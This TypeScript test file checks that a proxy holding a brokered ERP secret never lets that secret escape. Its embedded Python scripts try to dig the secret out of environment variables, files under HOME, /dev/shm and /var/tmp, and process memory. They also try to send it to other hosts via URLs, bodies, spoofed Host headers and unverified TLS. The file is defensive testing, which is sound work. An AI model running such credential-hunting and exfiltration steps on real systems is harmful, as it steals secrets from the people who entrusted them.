import { expect } from "vitest";
import { type HostileCase, hostile } from "./cases.ts";
import { leaksOf } from "./leaks.ts";
import { HTTP, nothingSeen } from "./network-listed.ts";
import { BROKERED } from "./planted.ts";
import { LOOKS_FOR } from "./secret-places.ts";

const PROJECT = { project: "brokered" } as const;
const ERP = `${HTTP}
key = settings.get("ERP")
ERP = f"https://erp.example:{SECURE}"
`;

/**
 * A Python expression for a text, in pieces, because the script's code is stored and must not contain the text
 * itself.
 */
const inPieces = (text: string) => (text.match(/.{1,6}/g) ?? []).map((piece) => `"${piece}"`).join(" + ");

/**
 * A script that sends the placeholder elsewhere than in its header to its host; the proxy refuses, and no server sees
 * it.
 */
const misplaced = (where: string, request: string): HostileCase =>
  hostile(`a placeholder in ${where}`, "completed", `${ERP}set_result(${request}[:2])`, {
    ...PROJECT,
    shows: { result: [403, expect.stringContaining("the placeholder of secret ERP stands")] },
    afterwards: nothingSeen,
  });

/** Scripts that look for a brokered secret's value, which they do not hold. */
export const BROKERED_SECRETS: readonly HostileCase[] = [
  hostile(
    "a brokered secret, sought in settings, environment, files, memory and what comes back",
    "completed",
    `${ERP}${LOOKS_FOR}
answers = [get(f"{ERP}/{path}", Authorization=key) for path in ("", "header", "slow")]
files = [f"{place}/{name}" for top in (os.environ["HOME"], "/dev/shm", "/var/tmp") for place, _, names in os.walk(top) for name in names]
texts = [key, str(dict(os.environ)), str(answers), *(open(name, errors="replace").read() for name in files)]
first, second = ${inPieces(BROKERED.slice(0, 12))}, ${inPieces(BROKERED.slice(12))}
set_result({
    "answers": [status for status, _, _ in answers],
    "read": [json.loads(answers[0][1])["headers"]["authorization"] == f"Bearer {key}", answers[1][2]["x-echo"] == f"Bearer {key}"],
    "environment": os.environ["ERP"] == key,
    "in texts": sum(second in text for text in texts),
    "in memory": times(first.encode(), second.encode()),
    "its placeholder in memory": times(key[:20].encode(), key[20:].encode()) > 0,
})
print(answers)`,
    {
      ...PROJECT,
      value: {
        answers: [200, 200, 200],
        read: [true, true],
        environment: true,
        "in texts": 0,
        "in memory": 0,
        "its placeholder in memory": true,
      },
      afterwards({ secure, plain, other, said }) {
        expect(said.flatMap((text) => leaksOf(text, { BROKERED }))).toEqual([]);
        const sent = secure.seen.map(({ headers }) => headers.authorization);
        expect(sent).toEqual(Array(3).fill(`Bearer ${BROKERED}`));
        expect([...plain.seen, ...other.seen]).toEqual([]);
      },
    },
  ),
  misplaced("another header", `get(f"{ERP}/", X_Other=key)`),
  misplaced("its header with more text", `get(f"{ERP}/", Authorization="Basic x" + key)`),
  misplaced("its header twice", `get(f"{ERP}/", Authorization=key + key)`),
  misplaced("a header's name", `get(f"{ERP}/", **{key.replace("-", "_"): "x"})`),
  misplaced("the URL", `get(f"{ERP}/?key={key}")`),
  misplaced("the body", `get(f"{ERP}/", b"key=" + key.encode())`),
  misplaced("a body in pieces", `get(f"{ERP}/", iter([key[:20].encode(), key[20:].encode()]))`),
  misplaced("plain http to its host", `get(f"http://erp.example:{PLAIN}/", Authorization=key)`),
  misplaced(
    "plain http to another host",
    `get(f"http://echo.example:{PLAIN}/", Authorization="Bearer " + key)`,
  ),
  misplaced("a body to another host", `get(f"http://echo.example:{PLAIN}/", key.encode())`),
  hostile(
    "a placeholder inside TLS to another host, where it is worth nothing",
    "completed",
    `${ERP}
import ssl
opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=ssl._create_unverified_context()))
request = urllib.request.Request(f"https://other.example:{OTHER}/", headers={"Authorization": key})
set_result(json.loads(opener.open(request, timeout=10).read())["headers"]["authorization"] == key)`,
    {
      ...PROJECT,
      value: true,
      afterwards: ({ other }) =>
        expect(other.seen.map(({ headers }) => headers.authorization)).toEqual([
          expect.stringMatching(/^airlock-placeholder-/),
        ]),
    },
  ),
  hostile(
    "a request to the secret's host that names another in its Host header",
    "completed",
    `${ERP}set_result(get(f"{ERP}/", Host="evil.test", Authorization=key)[0])`,
    { ...PROJECT, value: 400, afterwards: nothingSeen },
  ),
  ...["gzip", "range"].map((how) =>
    hostile(
      `a response that would come back as ${how}`,
      "completed",
      `${ERP}
answer = get(f"{ERP}/${how === "gzip" ? "gzip" : ""}", Authorization=key, Accept_Encoding="gzip", Range="bytes=0-40")
set_result(answer[0])`,
      {
        ...PROJECT,
        value: how === "gzip" ? 502 : 200,
        afterwards: ({ secure }) =>
          expect(secure.seen[0]?.headers).toMatchObject({
            "accept-encoding": "identity",
            authorization: `Bearer ${BROKERED}`,
          }),
      },
    ),
  ),
  hostile(
    "a part of a response without a request for a part",
    "completed",
    `${ERP}set_result(get(f"{ERP}/part", Authorization=key)[0])`,
    { ...PROJECT, value: 502 },
  ),
  hostile(
    "a part of a response, asked for by the headers that some servers know",
    "completed",
    `${ERP}set_result(get(f"{ERP}/", Authorization=key, Request_Range="bytes=0-5", x_ms_range="bytes=0-5")[0])`,
    {
      ...PROJECT,
      value: 200,
      afterwards: ({ secure }) =>
        expect(Object.keys(secure.seen[0]?.headers ?? {}).filter((name) => name.includes("range"))).toEqual(
          [],
        ),
    },
  ),
  hostile("the placeholder of the run before", "completed", `${ERP}llm.complete(key)`, {
    ...PROJECT,
    async afterwards({ rest, facts, secure, said }) {
      const old = /airlock-placeholder-[0-9a-f]{36}/.exec(said.join())?.[0] ?? "none";
      const code = `${ERP}set_result([key == "${old}", get(f"{ERP}/", Authorization="${old}")[0]])`;
      const next = await rest.run({ ...PROJECT, code, settings: facts });
      expect(next.result).toEqual([false, 200]);
      expect(secure.seen.map(({ headers }) => headers.authorization)).toEqual([old]);
    },
  }),
  hostile(
    "a server of its host that does not prove to be it",
    "completed",
    `${ERP}
answer = get(f"https://wrong.example:{OTHER}/", Authorization=settings.get("WRONG"))
set_result([answer[0], "could not reach" in answer[1]])`,
    { ...PROJECT, value: [502, true], afterwards: nothingSeen },
  ),
];
